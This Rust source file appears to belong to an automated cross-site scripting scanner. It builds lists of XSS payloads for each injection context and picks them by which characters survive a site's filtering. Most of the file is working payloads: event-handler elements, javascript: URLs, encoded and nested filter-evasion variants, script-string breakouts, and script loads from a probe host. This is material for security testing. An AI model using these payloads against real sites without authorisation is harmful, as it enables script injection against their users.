//! What is put into each kind of place. `@` stands for the marker number.

use super::context::{Context, InScript, Value};

/// Elements that run something by themselves or when touched, plainest first; behind the first come forms that pass
/// filters: other case, other tags and events, no blanks, words within words, other calls, references for letters.
const ELEMENTS: &[&str] = &[
    "<svg onload=alert(@)>",
    "<img src=x onerror=alert(@)>",
    "<script>alert(@)</script>",
    "<sCrIpT>alert(@)</sCrIpT>",
    "<SvG oNlOaD=alert(@)>",
    "<script src=//r@.redoubt-probe.example></script>",
    "<details open ontoggle=alert(@)>",
    "<svg/onload=alert(@)>",
    "<zq onpointerenter=alert(@)>x",
    "<svg onload=alert`@`>",
    "<svg onload=prompt(@)>",
    "<a href=javascript:alert(@)>x</a>",
    "<IMG SRC=X ONERROR=&#97;&#108;&#101;&#114;&#116;&#40;@&#41;>",
    "<scr<script>ipt>alert(@)</scr</script>ipt>",
    "<svg ononloadload=alert(@)>",
    "<img src=x ononerrorerror=alealertrt(@)>",
    "<s<svg>vg o<svg>nload=alert(@)>",
    "<img src=\">\" onerror=alert(@)>",
    "<img src=x onerror=alert(@) x=",
    "<svg onload=alert(@)//",
    "<iframe srcdoc=\"&lt;svg onload=alert(@)&gt;\"></iframe>",
    "<a href=\"jav&#9;ascript:alert(@)\">x</a>",
    "<a href=javas&#99;ript:p&#114;ompt&#40;@&#41;>x</a>",
    "<iframe srcdoc=\"&lt;svg &#111;nload=&#97;lert&#40;@&#41;&gt;\"></iframe>",
    // Words that are taken out leave other words.
    "<svg oscriptnload=alscriptert(@)>",
    "<form><button formaction=javascript:confirm(@)>x</button></form>",
    "<video><source onerror=confirm(@)></video>",
    "<svg><animate onbegin=confirm(@) attributeName=x dur=1s></svg>",
    "<input onfocus=confirm(@) autofocus>",
    "<body onpageshow=confirm(@)>",
    "<svg\nonload\n=\nconfirm(@)>",
    "<img src=x onerror=onerror=alert;throw/**/@>",
    "</template></select><svg onload=alert(@)>",
    // What fits where little room is left.
    "<q oncut=alert(@)>",
];

/// The same, written so that a second decoding makes an element of it.
const DECODED_LATER: &[&str] = &[
    "%3Csvg onload=alert(@)%3E",
    "&lt;svg onload=alert(@)&gt;",
    // Together: other signs that are made ones of markup, and what texts are marked up with, which need no such signs.
    "\u{ff1c}svg onload=alert(@)\u{ff1e}\\x3csvg onload=alert(@)\\x3e%u003csvg onload=alert(@)%u003e \
     [x](javascript:alert`@`) [url=javascript:alert(@)]x[/url] [img]x\" onerror=alert(@) x=\"[/img] \
     http://x.example/\"onmouseover=alert(@)//",
    "\\u003csvg onload=alert(@)\\u003e",
    "%253Csvg onload=alert(@)%253E",
];

/// Scripts in XML documents.
const XML: &[&str] = &[
    "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(@)</x:script>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(@)</x:script>",
    "]]><x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(@)</x:script><![CDATA[",
    "\"><x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(@)</x:script><x y=\"",
    "'><x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(@)</x:script><x y='",
    "--><x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(@)</x:script><!--",
];

/// Which letters came back as they were put in.
#[derive(Debug, Clone, Default)]
pub(super) struct Survivors {
    /// The letters.
    pub(super) letters: String,
    /// Whether only the second of each does.
    pub(super) is_second: bool,
    /// Whether nothing came back: what was tried was refused as a whole.
    pub(super) is_refused: bool,
}

impl Survivors {
    /// All of them.
    pub(super) fn all() -> Self {
        Self { letters: "<>\"'".to_owned(), ..Self::default() }
    }

    /// All of them may, in other forms.
    pub(super) fn refused() -> Self {
        Self { is_refused: true, ..Self::all() }
    }

    fn has(&self, letter: char) -> bool {
        self.letters.contains(letter)
    }
}

/// The payloads for some places, in the order in which they are tried, each once.
pub(super) fn payloads(contexts: &[Context], alive: &Survivors) -> Vec<String> {
    let lists: Vec<Vec<String>> = contexts.iter().map(|context| of(context, alive)).collect();
    let longest = lists.iter().map(Vec::len).max().unwrap_or_default();
    let mut all: Vec<String> = Vec::new();
    for nth in 0..longest {
        for payload in lists.iter().filter_map(|list| list.get(nth)) {
            if !all.contains(payload) {
                all.push(payload.clone());
            }
        }
    }
    all
}

/// The payloads for an XML document.
pub(super) fn xml() -> Vec<String> {
    XML.iter().map(|payload| (*payload).to_owned()).collect()
}

fn elements(prefix: &str, alive: &Survivors) -> Vec<String> {
    let list = if alive.has('<') { ELEMENTS } else { DECODED_LATER };
    let quote = prefix.chars().find(|letter| matches!(letter, '"' | '\''));
    if quote.is_some_and(|quote| !alive.has(quote)) && alive.has('<') {
        return Vec::new();
    }
    let decoded_later = |payload: &str| match quote {
        Some('"') if payload.starts_with("%3C") => "%22%3E".to_owned(),
        Some('\'') if payload.starts_with("%3C") => "%27%3E".to_owned(),
        Some('"') if payload.starts_with("&lt;") => "&quot;&gt;".to_owned(),
        _ if payload.starts_with('%') => prefix.replace('<', "%3C").replace('>', "%3E"),
        _ if payload.starts_with('&') => prefix.replace('<', "&lt;").replace('>', "&gt;"),
        _ if payload.starts_with('\\') => prefix.replace('<', "\\u003c").replace('>', "\\u003e"),
        _ => prefix.replace('<', "\u{ff1c}").replace('>', "\u{ff1e}"),
    };
    let fits = |payload: &&&str| alive.has('>') || !alive.has('<') || !payload.contains('>');
    list.iter()
        .filter(fits)
        .map(|payload| {
            if alive.has('<') {
                format!("{prefix}{payload}")
            } else {
                format!("{}{payload}", decoded_later(payload))
            }
        })
        .collect()
}

fn of(context: &Context, alive: &Survivors) -> Vec<String> {
    match context {
        Context::Text => {
            let mut list = elements("", alive);
            if alive.is_refused {
                // What is looked for may only come to be behind the filter.
                let later = DECODED_LATER.iter().map(|payload| (*payload).to_owned());
                list.splice(4.min(list.len())..4.min(list.len()), later);
            }
            list
        }
        Context::Comment => ["-->", "--!>", "---->>"]
            .iter()
            .enumerate()
            .flat_map(|(n, end)| elements(end, alive).into_iter().take(if n == 0 { usize::MAX } else { 1 }))
            .collect(),
        Context::Declaration => elements(">", alive),
        Context::Raw(element) => {
            let mut list = elements(&format!("</{element}>"), alive);
            // A filter may know the closing tag in one case only.
            list.extend(elements(&format!("</{}>", element.to_uppercase()), alive).into_iter().take(2));
            list
        }
        Context::Script(place) => {
            let mut list = in_script(*place, alive, false);
            list.extend(elements("</script>", alive));
            for end in ["</sCrIpT >", "</scr</script>ipt>"] {
                list.extend(elements(end, alive).into_iter().take(1));
            }
            list
        }
        Context::Tag => [
            strings(&[
                " onmouseover=alert(@) x=",
                " onclick=alert`@` x=",
                "\tonfocus=confirm(@)\tx=",
                "svg onload=alert(@) x",
            ]),
            elements(">", alive),
        ]
        .concat(),
        Context::Attribute { quote, kind } => {
            let mut list = match kind {
                Value::Plain => Vec::new(),
                Value::Url => strings(URLS),
                Value::Loaded => strings(&[
                    "data:text/javascript,alert(@)",
                    "//r@.redoubt-probe.example/",
                    "https://r@.redoubt-probe.example/x.js?",
                    "data:text/javascript,alert(@)//",
                ]),
                Value::Host => strings(&["r@.redoubt-probe.example/"]),
                Value::Script(place) => in_script(*place, alive, true),
                Value::Page => strings(&["&lt;svg onload=alert(@)&gt;", "<svg onload=alert(@)>"]),
            };
            list.extend(out_of_value(*quote, alive));
            list
        }
    }
}

fn strings(list: &[&str]) -> Vec<String> {
    list.iter().map(|payload| (*payload).to_owned()).collect()
}

const URLS: &[&str] = &[
    "javascript:alert(@)",
    "JaVaScRiPt:alert(@)",
    "java\tscript:alert(@)",
    "\u{1}javascript:alert(@)",
    "javascript:alert`@`",
    "javascript:prompt(@)",
    "javascript://%0aalert(@)",
    "javascript:/*http://*/alert(@)",
    "javajavascript:script:alert(@)",
    "javascript&colon;alert(@)",
    "&#106;avascript:alert(@)",
    "javascript:%61lert(@)",
];

fn out_of_value(quote: Option<char>, alive: &Survivors) -> Vec<String> {
    let Some(quote) = quote else {
        let mut list = strings(&["x onmouseover=alert(@) ", "x onmouseover=alert(@) x="]);
        let rest = elements("x>", alive);
        list.splice(0..0, rest.first().cloned());
        list.extend(strings(&[
            "x\tonfocus=alert(@)\tx=",
            "x\nonclick=prompt(@)\nx=",
            "x\u{c}onclick=alert`@`\u{c}x=",
            "x OnMouseOver=alert(@) x=",
        ]));
        list.extend(rest.into_iter().skip(1));
        return list;
    };
    let within = |template: &str| template.replace('Q', &quote.to_string());
    let breakout = elements(&within("Q>"), alive);
    let mut list: Vec<String> = breakout.first().cloned().into_iter().collect();
    if alive.has(quote) {
        list.extend(
            [
                "Q onmouseover=alert(@) x=Q",
                "Q autofocus onfocus=alert(@) x=Q",
                "Q/onmouseover=alert(@)/x=Q",
                "Q\tonmouseover=alert(@)\tx=Q",
                "Q OnMouseOver=alert(@) x=Q",
                "Q onpointerenter=alert`@` x=Q",
                "Q onclick=prompt(@) x=Q",
                "Q accesskey=x onclick=confirm(@) x=Q",
                "Q ONPOINTERENTER=&#97;&#108;&#101;&#114;&#116;&#40;@&#41; x=Q",
                "Q ononmouseovermouseover=alert(@) x=Q",
            ]
            .iter()
            .map(|template| within(template)),
        );
    } else {
        let encoded = if quote == '"' { ("%22", "&quot;") } else { ("%27", "&#39;") };
        list.push(format!("{0} onmouseover=alert(@) x={0}", encoded.0));
        list.push(format!("{0} onmouseover=alert(@) x={0}", encoded.1));
    }
    list.extend(breakout.into_iter().skip(1));
    list
}

fn in_script(place: InScript, alive: &Survivors, in_attribute: bool) -> Vec<String> {
    let quoted = |quote: char| -> Vec<String> {
        let forms = [
            "Q-alert(@)-Q",
            "Q;alert(@);//",
            "Q-alert`@`-Q",
            "Q-prompt(@)-Q",
            "Q-al\\u0065rt(@)-Q",
            "Q+confirm(@)+Q",
            "\\Q-alert(@)//",
            "\\Q;alert(@);//",
            "\\Q);alert(@);//",
            "\\Q};alert(@);//",
            "\\Q});alert(@);//",
            "Q);alert(@);//",
            "Q});alert(@);//",
            "Q;onerror=alert;throw/**/@;//",
        ];
        let mut list: Vec<String> = Vec::new();
        // References in an attribute are read before its script is.
        if alive.has(quote) || in_attribute {
            list.extend(forms.iter().map(|form| form.replace('Q', &quote.to_string())));
        }
        if in_attribute {
            let reference = if quote == '"' { "&quot;" } else { "&#39;" };
            list.push(format!("{reference}-alert(@)-{reference}"));
            list.push(format!("%{:02X}-alert(@)-%{:02X}", u32::from(quote), u32::from(quote)));
        } else if !alive.has(quote) {
            list.push(format!("%{:02X}-alert(@)-%{:02X}", u32::from(quote), u32::from(quote)));
        }
        list
    };
    match place {
        InScript::Text(quote) => quoted(quote),
        InScript::Template => {
            strings(&["${alert(@)}", "${alert`@`}", "`-alert(@)-`", "${prompt(@)}", "`;alert(@);//"])
        }
        InScript::Code => strings(&[
            "alert(@)",
            "1;alert(@)",
            "alert`@`",
            "prompt(@)",
            "1-alert(@)",
            "1;alert(@)//",
            "1);alert(@);//",
            "1};alert(@);//",
            "al\\u0065rt(@)",
            "x:alert(@),y",
            "1;onerror=alert;throw/**/@;",
        ]),
        InScript::LineComment => strings(&["\nalert(@)//", "\ralert(@)//", "\u{2028}alert(@)//"]),
        InScript::BlockComment => strings(&["*/alert(@)/*", "*/;alert(@)/*", "*/-alert(@)/*"]),
        InScript::Pattern => strings(&["x/-alert(@)-/x", "x/;alert(@)//"]),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn payloads_use_only_what_survives() {
        let all = Survivors::all();
        let none = Survivors::default();
        assert_eq!(of(&Context::Text, &all)[0], "<svg onload=alert(@)>");
        assert!(of(&Context::Text, &none).iter().all(|payload| !payload.contains('<')));
        let value = Context::Attribute { quote: Some('"'), kind: Value::Plain };
        assert_eq!(of(&value, &all)[0], "\"><svg onload=alert(@)>");
        assert_eq!(
            of(&value, &Survivors { letters: "\"".to_owned(), ..Survivors::default() })[0..2]
                .iter()
                .filter(|p| p.starts_with('"'))
                .count(),
            1
        );
        assert!(payloads(&[Context::Text, value], &all).len() > 40);
    }
}
